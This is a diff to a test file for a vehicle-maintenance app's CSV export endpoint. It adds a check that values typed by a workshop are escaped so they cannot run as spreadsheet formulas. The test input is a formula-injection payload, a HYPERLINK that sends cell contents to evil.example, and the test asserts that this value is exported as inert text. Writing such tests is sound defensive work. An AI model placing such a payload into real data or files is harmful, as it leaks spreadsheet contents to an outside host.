@@ -44,7 +44,8 @@ beforeAll(async () => {
   await call(server, workshop, "POST", "/api/shares/claim", { grant: qr.replace("odo-share:", "") });
   const logged = await call(server, workshop, "POST", `/api/maintenances/${vehicleId}/general`, {
     date: later(3),
-    adjustments: ["changeBrake"],
+    adjustments: ["changeBrake", "changeOther"],
+    description: '=HYPERLINK("http://evil.example/?leak="&A1,"Factura")',
     kms: 10_600,
     amount: 180,
   });
@@ -81,8 +82,11 @@ describe("GET /api/vehicles/{id}/export", () => {
       files[Object.keys(files).find((name) => name.endsWith("maintenances.csv")) ?? ""] ?? new Uint8Array(),
     );
     expect(maintenances.split("\r\n")[0]).toContain("logged_by");
-    expect(maintenances).toContain(",Owner\r\n");
-    expect(maintenances).toContain(",Taller Hermanos Díaz\r\n");
+    expect(maintenances).toContain(',"Owner"\r\n');
+    expect(maintenances).toContain(',"Taller Hermanos Díaz"\r\n');
+    // What the workshop typed lands in the owner's file as text, never as a formula.
+    expect(maintenances).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Factura"")"`);
+    expect(maintenances).not.toMatch(/(^|,)"?=/m);
     const refuels = strFromU8(
       files[Object.keys(files).find((name) => name.endsWith("refuels.csv")) ?? ""] ?? new Uint8Array(),
     );
